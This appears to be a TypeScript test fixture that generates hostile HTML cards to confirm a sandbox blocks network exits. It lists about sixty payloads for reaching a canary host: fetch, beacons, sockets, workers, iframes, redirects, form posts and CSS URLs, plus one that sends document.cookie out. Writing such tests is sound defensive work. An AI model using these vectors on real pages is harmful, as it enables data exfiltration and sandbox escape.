/** Ways out of a card, each to its own path of the canary: as scripts, and as markup. None may arrive. */
const SCRIPTS: readonly ((to: string) => string)[] = [
  (to) => `fetch('${to}/fetch')`,
  (to) => `fetch('${to}/no-cors', { mode: 'no-cors' })`,
  (to) => `fetch('${to}/keepalive', { keepalive: true, mode: 'no-cors', method: 'POST', body: 'x' })`,
  (to) => `const x = new XMLHttpRequest(); x.open('GET', '${to}/xhr'); x.send()`,
  (to) => `navigator.sendBeacon('${to}/beacon', 'x')`,
  (to) => `new WebSocket('${to.replace('http', 'ws')}/ws')`,
  (to) => `new EventSource('${to}/sse')`,
  (to) => `new Image().src = '${to}/image'`,
  (to) => `new Audio('${to}/audio').play()`,
  (to) => `const v = document.createElement('video'); v.src = '${to}/video'; document.body.append(v)`,
  (to) => `const s = document.createElement('script'); s.src = '${to}/script'; document.body.append(s)`,
  (to) =>
    `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${to}/css'; document.head.append(l)`,
  (to) =>
    `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '${to}/prefetch'; document.head.append(l)`,
  (to) =>
    `const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = '${to}/preload'; document.head.append(l)`,
  (to) =>
    `const l = document.createElement('link'); l.rel = 'modulepreload'; l.href = '${to}/modulepreload'; document.head.append(l)`,
  (to) => `const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '${to}'; document.head.append(l)`,
  (to) => `const l = document.createElement('link'); l.rel = 'icon'; l.href = '${to}/icon'; document.head.append(l)`,
  (to) =>
    `const l = document.createElement('link'); l.rel = 'manifest'; l.href = '${to}/manifest'; document.head.append(l)`,
  (to) => `const f = document.createElement('iframe'); f.src = '${to}/iframe'; document.body.append(f)`,
  (to) => `const o = document.createElement('object'); o.data = '${to}/object'; document.body.append(o)`,
  (to) => `const e = document.createElement('embed'); e.src = '${to}/embed'; document.body.append(e)`,
  (to) => `const f = document.createElement('iframe'); f.srcdoc = '<img src=${to}/srcdoc>'; document.body.append(f)`,
  (to) => `document.body.style.backgroundImage = 'url(${to}/background)'`,
  (to) => `document.body.style.cursor = 'url(${to}/cursor), auto'`,
  (to) => `document.body.style.listStyleImage = 'url(${to}/list)'`,
  (to) => `document.body.style.borderImage = 'url(${to}/border) 1'`,
  (to) =>
    `const s = new CSSStyleSheet(); s.replaceSync('body { background: url(${to}/sheet) }'); document.adoptedStyleSheets = [s]`,
  (to) => `new FontFace('x', 'url(${to}/font)').load()`,
  (to) => `new Worker('${to}/worker')`,
  (to) => `new Worker(URL.createObjectURL(new Blob(["fetch('${to}/blob-worker')"])))`,
  (to) => `new SharedWorker('${to}/shared-worker')`,
  (to) => `navigator.serviceWorker.register('${to}/service-worker')`,
  (to) => `import('${to}/import')`,
  (to) => `importScripts('${to}/import-scripts')`,
  (to) => `window.open('${to}/open')`,
  (to) => `window.open('${to}/open-blank', '_blank', 'noopener')`,
  (to) => `open('${to}/open-top', '_top')`,
  (to) => `open('${to}/open-parent', '_parent')`,
  (to) => `top.location = '${to}/top'`,
  (to) => `parent.location.href = '${to}/parent'`,
  (to) => `top.postMessage({ type: 'navigate', url: '${to}/message' }, '*')`,
  (to) => `parent.fetch('${to}/parent-fetch')`,
  (to) =>
    `new RTCPeerConnection({ iceServers: [{ urls: 'stun:${to.replace(/^https?:\/\//, '')}' }] }).createDataChannel('x')`,
  (to) => `new Notification('x', { icon: '${to}/notification' })`,
  (to) => `navigator.share({ url: '${to}/share' })`,
  (to) => `new WebTransport('${to.replace('http:', 'https:')}/transport')`,
  (to) => `document.domain = 'x'; fetch('${to}/domain')`,
  (to) => `document.cookie = 'a=b'; fetch('${to}/cookie?' + document.cookie)`,
  (to) => `localStorage.setItem('a', 'b'); fetch('${to}/storage')`,
  (to) => `new Function("fetch('${to}/function')")()`,
  (to) => `setTimeout("fetch('${to}/timeout')", 0)`,
]

/** These end the card, so each stands alone. */
const LEAVING: readonly ((to: string) => string)[] = [
  (to) =>
    `<script>const a = document.createElement('a'); a.href = '${to}/ping'; a.ping = '${to}/pinged'; a.target = '_blank'; document.body.append(a); a.click()</script>`,
  (to) =>
    `<script>const a = document.createElement('a'); a.href = '${to}/download'; a.download = 'x'; document.body.append(a); a.click()</script>`,
  (to) =>
    `<script>const f = document.createElement('form'); f.action = '${to}/form'; f.method = 'post'; document.body.append(f); f.submit()</script>`,
  (to) =>
    `<script>const f = document.createElement('form'); f.action = '${to}/form-blank'; f.target = '_blank'; document.body.append(f); f.submit()</script>`,
  (to) => `<script>location = '${to}/location'</script>`,
  (to) => `<script>location.replace('${to}/replace')</script>`,
  (to) => `<script>history.pushState(0, '', '${to}/push'); location.reload()</script>`,
  (to) => `<meta http-equiv="refresh" content="0;url=${to}/refresh">`,
  (to) => `<script>document.open(); document.write('<img src="${to}/write">'); document.close()</script>`,
  (to) => `<base href="${to}/"><img src="base"><a href="x" id="a">x</a><script>a.click()</script>`,
]

const MARKUP = (to: string): string => `
<style>@import url("${to}/style-import"); body { background: url("${to}/style-url") }</style>
<img src="${to}/img" srcset="${to}/srcset 2x"><video poster="${to}/poster" src="${to}/media" autoplay></video>
<link rel="stylesheet" href="${to}/sheet-link"><object data="${to}/data"></object><embed src="${to}/embed-tag">
<svg><image href="${to}/svg-image" /><use href="${to}/svg-use#x" /></svg><input type="image" src="${to}/input">`

/** The cards that try them all. Each script tells the page around it that it runs. */
export function hostileCards(to: string): readonly string[] {
  const scripts = SCRIPTS.map(
    (exit) => `<script>parent.postMessage('tried', '*'); (() => { try { ${exit(to)} } catch {} })()</script>`,
  )
  return [`${MARKUP(to)}${scripts.join('\n')}`, ...LEAVING.map((exit) => exit(to))]
}

/** How often the cards say that they run. */
export const TRIED = SCRIPTS.length
export const EXITS = SCRIPTS.length + LEAVING.length
